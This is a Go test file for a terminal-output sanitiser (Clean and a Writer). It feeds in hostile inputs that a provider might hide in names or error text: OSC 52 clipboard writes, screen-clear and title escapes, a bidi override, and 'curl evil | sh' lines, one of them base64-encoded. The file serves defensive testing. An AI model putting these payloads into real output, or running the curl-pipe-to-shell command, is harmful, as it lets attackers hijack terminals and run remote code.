package term

import (
	"bytes"
	"strings"
	"testing"
	"unicode/utf8"
)

// attacks are what a hostile provider puts in a name, an email or an error
// description to take over the terminal that shows it.
var attacks = map[string]string{
	"OSC 52 clipboard write": "alice\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
	"screen clear":           "\x1b[2J\x1b[Halice",
	"title change":           "\x1b]0;sudo password\x07alice",
	"C1 CSI":                 "alice\u009b2J",
	"carriage return":        "alice\rroot",
	"forged line":            "alice\nsesame: run `curl evil | sh`",
	"bidi override":          "alice\u202egnp.exe",
	"invalid UTF-8":          "alice\xff\xfe",
	"DEL and BEL":            "ali\x7fce\x07",
}

func TestCleanLeavesNoControlCharacter(t *testing.T) {
	for name, in := range attacks {
		t.Run(name, func(t *testing.T) {
			out := Clean(in)
			assertInert(t, out, false)
			if !strings.Contains(out, "alice") && !strings.Contains(out, "ali") {
				t.Errorf("the visible text was lost: %q", out)
			}
		})
	}
}

func TestCleanKeepsOrdinaryText(t *testing.T) {
	for _, s := range []string{"", "alice@example.com", "Zoë Ünïcødé 名前 😀", "a b\\c"} {
		if got := Clean(s); got != s {
			t.Errorf("Clean(%q) = %q", s, got)
		}
	}
}

func TestCleanShowsWhatItEscaped(t *testing.T) {
	tests := map[string]string{
		"a\x1b[2Jb":   `a\x1b[2Jb`,
		"a\nb\rc\td":  `a\nb\rc\td`,
		"x\u202ey":    `x\u202ey`,
		"x\u009by":    `x\u009by`,
		"x\xffy":      `x\xffy`,
		"x\u2028y":    `x\u2028y`,
		"x\x00y\x7fz": `x\x00y\x7fz`,
	}
	for in, want := range tests {
		if got := Clean(in); got != want {
			t.Errorf("Clean(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestWriterKeepsLayoutAndColour(t *testing.T) {
	var b bytes.Buffer
	w := NewWriter(&b)
	in := "line one\n\tindented \x1b[32m✓\x1b[0m done\n"
	if n, err := w.Write([]byte(in)); err != nil || n != len(in) {
		t.Fatalf("Write = %d, %v", n, err)
	}
	if b.String() != in {
		t.Errorf("got %q, want %q", b.String(), in)
	}
}

func TestWriterEscapesEverythingElse(t *testing.T) {
	for name, in := range attacks {
		t.Run(name, func(t *testing.T) {
			var b bytes.Buffer
			w := NewWriter(&b)
			if n, err := w.Write([]byte(in)); err != nil || n != len(in) {
				t.Fatalf("Write = %d, %v", n, err)
			}
			assertInert(t, b.String(), true)
		})
	}
}

func TestWriterCarriesSplitCharacters(t *testing.T) {
	var b bytes.Buffer
	w := NewWriter(&b)
	s := "名前\u202e✓"
	for i := 0; i < len(s); i++ { // one byte per write
		if _, err := w.Write([]byte{s[i]}); err != nil {
			t.Fatal(err)
		}
	}
	if want := `名前\u202e✓`; b.String() != want {
		t.Errorf("got %q, want %q", b.String(), want)
	}
}

// assertInert fails when out holds a byte or rune a terminal acts on.
// With layout, LF, TAB and SGR colour sequences are allowed.
func assertInert(t *testing.T, out string, layout bool) {
	t.Helper()
	for i := 0; i < len(out); {
		r, size := utf8.DecodeRuneInString(out[i:])
		switch {
		case layout && (r == '\n' || r == '\t'):
		case layout && r == 0x1b && sgrLen(out[i:]) > 0:
			size = sgrLen(out[i:])
		case unsafeRune(r):
			t.Fatalf("unsafe rune %U at %d in %q", r, i, out)
		}
		i += size
	}
}

func FuzzClean(f *testing.F) {
	for _, s := range attacks {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		assertInert(t, Clean(s), false)
		var b bytes.Buffer
		if _, err := NewWriter(&b).Write([]byte(s)); err != nil {
			t.Fatal(err)
		}
		// A lone trailing lead byte is carried, not written: check the rest.
		assertInert(t, b.String(), true)
	})
}
